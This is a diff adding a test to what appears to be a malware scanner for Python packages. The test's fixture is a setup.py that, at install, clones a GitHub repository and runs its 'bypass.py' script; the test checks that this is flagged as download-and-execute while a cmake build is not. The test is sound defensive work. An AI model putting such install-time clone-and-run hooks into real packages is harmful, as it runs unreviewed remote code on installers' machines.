@@ -481,3 +481,21 @@ test('an SSH key sent to another machine on the private network at install is ex
   const { score: loopback } = await scan({ 'p-1/setup.py': code.replace('192.168.77.5', '127.0.0.1:8000') });
   assert.notEqual(loopback.verdict, 'malicious', loopback.reason);
 });
+
+test('a repository cloned at install and a script of it run is download-and-execute; a clone built with cmake is not', async () => {
+  const code = [
+    'import os, subprocess, git',
+    'def fetch():',
+    "    path = os.path.join('C:', 'Users', 'repo')",
+    "    git.Repo.clone_from('https://github.com/someone/updater.git', path)",
+    '    os.chdir(path)',
+    "    subprocess.run(['python', 'bypass.py'])",
+    'fetch()',
+    "from setuptools import setup\nsetup(name='p')",
+  ].join('\n');
+  const { out, score } = await scan({ 'p-1/setup.py': code });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => /Clones a repository from github\.com/.test(f.message)));
+  const { score: build } = await scan({ 'p-1/setup.py': code.replace("['python', 'bypass.py']", "['cmake', '--build', '.']") });
+  assert.notEqual(build.verdict, 'malicious', build.reason);
+});
